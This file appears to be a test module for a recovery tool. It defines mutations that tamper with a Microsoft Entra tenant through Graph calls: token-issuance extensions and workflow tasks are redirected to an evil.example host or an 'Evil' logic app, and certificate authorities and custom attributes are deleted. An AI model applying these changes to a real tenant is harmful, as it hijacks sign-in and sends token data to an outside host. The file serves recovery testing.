"""Damage to what sign-in and workflows ask elsewhere, and to sign-up. See `mutations`."""

from __future__ import annotations

from tests.recovery.mutations import Hand, Mutation

EXTENSIONS = "/identity/customAuthenticationExtensions"
ATTRIBUTES = "/identity/userFlowAttributes"
WORKFLOWS = "/identityGovernance/lifecycleWorkflows"
TASKS = f"{WORKFLOWS}/customTaskExtensions"
CLAIMS = "#microsoft.graph.onTokenIssuanceStartCustomExtension"

OF_SIGN_IN: dict[str, Mutation] = {}


def mutation(act: Mutation) -> Mutation:
    OF_SIGN_IN[act.__name__] = act
    return act


def _called(hand: Hand) -> dict[str, object]:
    return {
        "endpointConfiguration": {
            "@odata.type": "#microsoft.graph.httpRequestEndpoint",
            "targetUrl": f"https://evil.example/{hand.number}",
        },
        "claimsForTokenConfiguration": [{"claimIdInApiResponse": hand.word}],
    }


def _extensions(hand: Hand) -> list[str]:
    return [f"{EXTENSIONS}/{one['id']}" for one in hand.list(EXTENSIONS)]


@mutation
def call_elsewhere(hand: Hand) -> None:
    for path in _extensions(hand):
        hand.do("PATCH", path, {"@odata.type": CLAIMS, "description": hand.word, **_called(hand)})


@mutation
def add_call(hand: Hand) -> None:
    authentication = {
        "@odata.type": "#microsoft.graph.azureAdTokenAuthentication",
        "resourceId": "api://evil.example/a13d0fc1-04ab-4ede-b215-63de0174cbb4",
    }
    body = {"@odata.type": CLAIMS, "displayName": hand.word, **_called(hand)}
    hand.do("POST", EXTENSIONS, {**body, "authenticationConfiguration": authentication})


@mutation
def drop_call(hand: Hand) -> None:
    for path in _extensions(hand):
        hand.do("DELETE", path)


@mutation
def drop_authorities(hand: Hand) -> None:
    path = f"/organization/{hand.workshop.entra}/certificateBasedAuthConfiguration"
    for one in hand.list(path):
        hand.do("DELETE", f"{path}/{one['id']}")


@mutation
def ask_for_more(hand: Hand) -> None:
    for one in hand.list(ATTRIBUTES):
        if one["userFlowAttributeType"] == "custom":
            hand.do("PATCH", f"{ATTRIBUTES}/{one['id']}", {"description": hand.word})
    hand.do("POST", ATTRIBUTES, {"displayName": f"Extra{hand.number}", "dataType": "boolean"})


@mutation
def drop_attribute(hand: Hand) -> None:
    for one in hand.list(ATTRIBUTES):
        if one["userFlowAttributeType"] == "custom":
            hand.do("DELETE", f"{ATTRIBUTES}/{one['id']}")


@mutation
def send_in_another_name(hand: Hand) -> None:
    mail = {"senderDomain": f"{hand.word}.example", "useCompanyBranding": False}
    hours = 1 + hand.number % 24
    settings = {"emailSettings": mail, "workflowScheduleIntervalInHours": hours}
    hand.do("PATCH", f"{WORKFLOWS}/settings", settings)


@mutation
def act_elsewhere(hand: Hand) -> None:
    there = {
        "@odata.type": "#microsoft.graph.logicAppTriggerEndpointConfiguration",
        "subscriptionId": "c500b67c-e9b7-4ad2-a90d-77d41385ae55",
        "resourceGroupName": "evil",
        "logicAppWorkflowName": f"Evil{hand.number}",
    }
    for one in hand.list(TASKS):
        hand.do("PATCH", f"{TASKS}/{one['id']}", {"endpointConfiguration": there})
    hand.do("POST", TASKS, {"displayName": hand.word, "endpointConfiguration": there})


@mutation
def drop_act(hand: Hand) -> None:
    for one in hand.list(TASKS):
        hand.do("DELETE", f"{TASKS}/{one['id']}")
